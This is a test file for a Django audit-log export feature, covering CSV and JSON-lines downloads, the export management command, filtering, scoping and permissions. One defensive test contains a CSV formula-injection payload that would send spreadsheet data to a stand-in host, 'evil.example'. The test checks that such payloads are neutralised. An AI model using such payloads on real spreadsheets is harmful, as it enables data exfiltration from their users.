"""Exporting the audit log: the page's downloads and `manage.py audit_export` share its filters and scope."""

import csv
import datetime
import io
import json
import tracemalloc

import pytest
import time_machine
from django.core.management import call_command
from django.core.management.base import CommandError

from core import audit_export
from core.audit import Origin
from core.models import AuditEvent
from organisation.models import Company
from tests.factories import UserFactory
from tests.integration.conftest import grant, logged_in_client

pytestmark = pytest.mark.django_db

DAY1 = datetime.datetime(2025, 3, 1, 12, 0, tzinfo=datetime.UTC)
DAY2 = datetime.datetime(2025, 3, 2, 23, 59, 59, tzinfo=datetime.UTC)
DAY3 = datetime.datetime(2025, 3, 3, 0, 0, tzinfo=datetime.UTC)


def event(*, at=DAY1, **fields):
    return AuditEvent.objects.create(created_at=at, **fields)


@pytest.fixture
def history(db):
    """Three events by two actors on three days."""
    event(at=DAY1, actor_name="admin", action="user.create", target_type="user", target_id="7", target_name="carol")
    event(at=DAY2, actor_name="root2", action="user.update", target_name="carol", details={"email": "changed"})
    event(at=DAY3, actor_name="admin", action="user.delete", target_name="carol", ip="198.51.100.7")


def body_of(response):
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


def csv_rows(text):
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return rows


def jsonl_rows(text):
    return [json.loads(line) for line in text.splitlines()]


def exports(action="audit.export"):
    return list(AuditEvent.objects.filter(action=action))


# The downloads on the page


def test_audit_page_offers_both_downloads_with_its_current_filters(admin_client, history):
    page = admin_client.get("/audit/", {"actor": "admin", "action": "user.delete", "page": "2"}).content.decode()

    assert 'href="/audit/export.csv?actor=admin&amp;action=user.delete&amp;"' in page
    assert 'href="/audit/export.jsonl?actor=admin&amp;action=user.delete&amp;"' in page


def test_csv_export_holds_the_filtered_events_with_every_column(admin_client, history):
    response = admin_client.get("/audit/export.csv", {"actor": "admin"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    text = body_of(response)
    assert text.splitlines()[0] == ",".join(audit_export.COLUMNS)
    assert csv_rows(text) == [
        {
            "time": "2025-03-03T00:00:00+00:00",
            "actor": "admin",
            "action": "user.delete",
            "target_type": "",
            "target_id": "",
            "target_name": "carol",
            "outcome": "success",
            "ip": "198.51.100.7",
            "user_agent": "",
            "details": "{}",
        },
        {
            "time": "2025-03-01T12:00:00+00:00",
            "actor": "admin",
            "action": "user.create",
            "target_type": "user",
            "target_id": "7",
            "target_name": "carol",
            "outcome": "success",
            "ip": "",
            "user_agent": "",
            "details": "{}",
        },
    ]


def test_jsonl_export_is_one_json_object_per_event_with_details_as_an_object(admin_client, history):
    response = admin_client.get("/audit/export.jsonl", {"action": "user.update"})

    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    assert jsonl_rows(body_of(response)) == [
        {
            "time": "2025-03-02T23:59:59+00:00",
            "actor": "root2",
            "action": "user.update",
            "target_type": "",
            "target_id": "",
            "target_name": "carol",
            "outcome": "success",
            "ip": "",
            "user_agent": "",
            "details": {"email": "changed"},
        }
    ]


@pytest.mark.parametrize(
    "filters",
    [
        {"since": "2025-03-01", "until": "2025-03-02"},
        {"since": "2025-03-03"},
        {"until": "2025-03-02T23:59:58Z"},
        {"since": "2025-03-02T23:59:59Z", "until": "2025-03-03T01:59:59+02:00"},
        {"actor": "ROOT2"},
    ],
)
def test_export_holds_exactly_what_the_page_lists(admin_client, history, filters):
    listed = admin_client.get("/audit/", filters).context["page"]
    exported = jsonl_rows(body_of(admin_client.get("/audit/export.jsonl", filters)))

    assert [(row["time"], row["action"]) for row in exported] == [
        (event.created_at.isoformat(), event.action) for event in listed
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_start_with_a_quote(admin_client, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    event(actor_name=f"{start}mallory", action="auth.login", target_name=formula, user_agent=formula)

    row = csv_rows(body_of(admin_client.get("/audit/export.csv", {"action": "auth.login"})))[-1]

    assert (row["actor"], row["target_name"], row["user_agent"]) == (f"'{start}mallory", f"'{formula}", f"'{formula}")


def test_jsonl_keeps_text_as_it_was_written(admin_client):
    event(actor_name="=mallory", action="auth.login", target_name="=1+1")

    row = jsonl_rows(body_of(admin_client.get("/audit/export.jsonl", {"action": "auth.login"})))[-1]

    assert (row["actor"], row["target_name"]) == ("=mallory", "=1+1")


def test_download_is_audited_with_its_format_filters_and_count(admin_client, admin_user, history):
    body_of(admin_client.get("/audit/export.csv", {"actor": "admin", "since": "2025-03-01"}))

    [exported] = exports()
    assert (exported.actor, exported.target_name, exported.outcome) == (admin_user, "", "success")
    assert exported.details == {
        "format": "csv",
        "filters": {"actor": "admin", "since": "2025-03-01T00:00:00+00:00"},
        "count": 2,
        "via": "web",
    }


def test_an_export_holds_the_events_of_its_start_not_its_own_event(admin_client, history):
    first = jsonl_rows(body_of(admin_client.get("/audit/export.jsonl")))
    second = jsonl_rows(body_of(admin_client.get("/audit/export.jsonl")))

    assert [row["action"] for row in first].count("audit.export") == 0
    assert [row["action"] for row in second].count("audit.export") == 1
    assert [event.details["count"] for event in exports()] == [len(second), len(first)]


def test_a_company_admin_exports_only_the_events_of_their_scope(db):
    east, west = Company.objects.create(name="East"), Company.objects.create(name="West")
    eve = grant(UserFactory(username="eve", company=east), "core.view_auditevent", "accounts.view_user")
    ed, walt = UserFactory(username="ed", company=east), UserFactory(username="walt", company=west)
    # core.audit.record writes the companies of the actor and of the target user on each event.
    event(actor=ed, actor_name="ed", action="user.update", target_name="ed", actor_company_id=east.pk)
    event(actor=walt, actor_name="walt", action="user.update", target_name="walt", actor_company_id=west.pk)
    operator = {"actor_name": "operator", "action": "user.update", "target_type": "user"}
    event(**operator, target_id=str(walt.pk), target_name="walt", target_company_id=west.pk)
    event(**operator, target_id=str(ed.pk), target_name="ed", target_company_id=east.pk)
    browser = logged_in_client(eve)

    for path in ("/audit/export.csv", "/audit/export.jsonl"):
        text = body_of(browser.get(path, {"action": "user.update"}))
        rows = csv_rows(text) if path.endswith("csv") else jsonl_rows(text)
        assert sorted((row["actor"], row["target_name"]) for row in rows) == [("ed", "ed"), ("operator", "ed")]
        assert "walt" not in text
    unfiltered = body_of(browser.get("/audit/export.jsonl"))
    assert "walt" not in unfiltered


def test_export_needs_the_audit_logs_view_permission(db):
    user_admin = grant(UserFactory(username="useradmin"), "accounts.view_user", "accounts.change_user")

    for path in ("/audit/export.csv", "/audit/export.jsonl"):
        assert logged_in_client(user_admin).get(path).status_code == 403
    assert exports() == []


def test_export_refuses_post(admin_client):
    assert admin_client.post("/audit/export.csv").status_code == 405


NUL_FILTERS = [("actor", "ad\x00min"), ("since", "2025-03-01\x00")]
BAD_FILTERS = [
    ("since", "9999-12-31T23:00-05:00"),  # year 10000 in UTC
    ("until", "9999-12-31T00:00:00-13:59"),
    ("until", "9999-12-31"),
    ("since", "0001-01-01T00:00+14:00"),  # before year 1 in UTC
    ("since", "2025-03-01T00:00+14:30"),  # beyond any time zone
    ("since", "2025-03-01T00:00+99:00"),
    ("since", "1969-12-31T23:59Z"),
    ("until", "2025-02-30"),
    ("action", "user.explode"),
]


@pytest.mark.parametrize(("name", "bad"), BAD_FILTERS)
def test_a_bad_filter_is_a_form_error_on_the_page_and_its_downloads(admin_client, history, name, bad):
    for path in ("/audit/", "/audit/export.csv", "/audit/export.jsonl"):
        response = admin_client.get(path, {name: bad})

        assert response.status_code == 400, (path, response.status_code)
        assert response.context["form"].errors[name]
        assert "Export CSV" not in response.content.decode()
    assert exports() == []


@pytest.mark.parametrize(("name", "bad"), NUL_FILTERS)
def test_a_nul_in_a_filter_is_refused_before_the_page_and_its_downloads(admin_client, history, name, bad):
    for path in ("/audit/", "/audit/export.csv", "/audit/export.jsonl"):
        assert admin_client.get(path, {name: bad}).status_code == 400  # core.middleware, at the door
    assert exports() == []


def test_export_memory_does_not_grow_with_the_number_of_events(admin_client):
    """Events are read and written in chunks: six times the events, about the same peak memory."""

    def peak_while_exporting(count):
        AuditEvent.objects.all().delete()
        AuditEvent.objects.bulk_create(
            AuditEvent(action="user.update", actor_name="admin", details={"n": n}) for n in range(count)
        )
        tracemalloc.start()
        response = admin_client.get("/audit/export.csv", {"action": "user.update"})
        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert lines == count + 1
        return peak

    peak_while_exporting(10)  # the first request loads what every later one reuses
    small, large = peak_while_exporting(2_000), peak_while_exporting(12_000)

    print(f"peak memory while exporting: 2,000 events {small} B, 12,000 events {large} B")
    assert large < 2 * small, (small, large)


# The command


def run_export(*args):
    out = io.StringIO()
    call_command("audit_export", *args, stdout=out)
    return out.getvalue()


def test_command_writes_csv_to_standard_output_by_default(history):
    rows = csv_rows(run_export("--actor", "admin", "--action", "user.create"))

    assert [(row["time"], row["action"], row["target_id"]) for row in rows] == [
        ("2025-03-01T12:00:00+00:00", "user.create", "7")
    ]


def test_command_writes_json_lines_to_a_file(history, tmp_path):
    output = tmp_path / "audit.jsonl"

    assert run_export("--format", "jsonl", "--since", "2025-03-02", "--output", str(output)) == ""

    assert [row["action"] for row in jsonl_rows(output.read_text())] == ["user.delete", "user.update"]


def test_command_exports_what_the_page_exports_for_the_same_filters(admin_client, history):
    filters = {"since": "2025-03-01T13:00+01:00", "until": "2025-03-02", "actor": "root2"}
    downloaded = body_of(admin_client.get("/audit/export.csv", filters))

    exported = run_export(*(part for name, value in filters.items() for part in (f"--{name}", value)))

    assert exported == downloaded
    assert len(csv_rows(exported)) == 1


def test_command_is_audited_as_the_operator(history):
    run_export("--format", "jsonl", "--action", "user.delete", "--until", "2025-03-04T00:00+02:00")

    [exported] = exports()
    assert (exported.actor, exported.actor_name) == (None, "operator")
    assert exported.details == {
        "format": "jsonl",
        "filters": {"action": "user.delete", "until": "2025-03-03T22:00:00+00:00"},
        "count": 1,
        "via": "command",
    }


def test_command_filters_by_any_known_action_even_one_never_written(history):
    assert csv_rows(run_export("--action", "passkey.delete")) == []


@pytest.mark.parametrize(("name", "bad"), NUL_FILTERS + BAD_FILTERS)
def test_command_refuses_a_bad_filter_naming_the_option(history, name, bad):
    with pytest.raises(CommandError, match=f"--{name}: "):
        run_export(f"--{name}", bad)
    assert exports() == []


def test_export_service_counts_and_streams_the_events_it_is_given(history):
    with time_machine.travel(DAY3, tick=False):
        chunks = audit_export.export(
            origin=Origin.command("test"),
            events=AuditEvent.objects.filter(actor_name="admin"),
            filters={"actor": "admin", "action": "", "since": None, "until": None},
            file_format="jsonl",
        )
    rows = jsonl_rows("".join(chunks))

    assert [row["action"] for row in rows] == ["user.delete", "user.create"]
    assert exports()[0].details["filters"] == {"actor": "admin"}
